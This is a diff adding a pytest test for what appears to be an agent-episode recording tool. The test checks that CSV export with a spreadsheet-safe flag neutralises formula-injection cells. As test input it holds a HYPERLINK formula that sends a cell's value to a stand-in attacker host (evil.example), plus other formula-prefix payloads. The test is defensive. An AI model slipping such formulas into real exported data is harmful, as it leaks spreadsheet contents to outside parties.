@@ -536,3 +536,28 @@ def test_compare_and_power_name_an_unknown_hostile_agent_escaped(name, tmp_path)
         assert "no episodes of agent" in out.output or "no pair of" in out.output, out.output
         assert not UNPRINTABLE.search(out.output.replace("\n", "")), out.output
     assert not (tmp_path.parent / "PWNED").exists()
+
+
+def test_spreadsheet_safe_csv_defuses_formulas_from_model_replies(tmp_path):
+    """A model reply or a tree text starting with = reached a spreadsheet raw (=HYPERLINK(...))."""
+    db = f"sqlite:///{tmp_path / 'e.sqlite'}"
+    script = tmp_path / "s.txt"
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    script.write_text("\n---\n".join([f"ACTION: {formula}", "ACTION: +1+1", "ACTION: @SUM(1)", "ACTION:\n(1) -2+3"]))
+    args = ["play", "--tree", "synthetic-chain-7", "--agent", f"script:{script}", "--max-turns", "3", "--record"]
+    assert run(*args, "--db", db).exit_code == 0
+    wh = str(tmp_path / "w.duckdb")
+    assert run("warehouse", "sync", "--db", db, "--warehouse", wh).exit_code == 0
+    select = "SELECT action FROM ev_agent_replied ORDER BY global_position"
+    raw = run("sql", select, "--warehouse", wh, "--format", "csv")
+    assert raw.exit_code == 0 and '\n"=HYPERLINK' in raw.stdout  # as recorded: CSV for programs is exact
+    safe = run("sql", select, "--warehouse", wh, "--format", "csv", "--spreadsheet-safe")
+    assert safe.exit_code == 0, safe.output
+    import csv
+    import io
+
+    cells = [row[0] for row in csv.reader(io.StringIO(safe.stdout))][1:]
+    assert cells and not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells), cells
+    assert "\"'=HYPERLINK" in safe.stdout and "'+1+1" in safe.stdout
+    refused = run("sql", select, "--warehouse", wh, "--spreadsheet-safe")
+    assert refused.exit_code == 2 and "--spreadsheet-safe is for --format csv" in refused.output
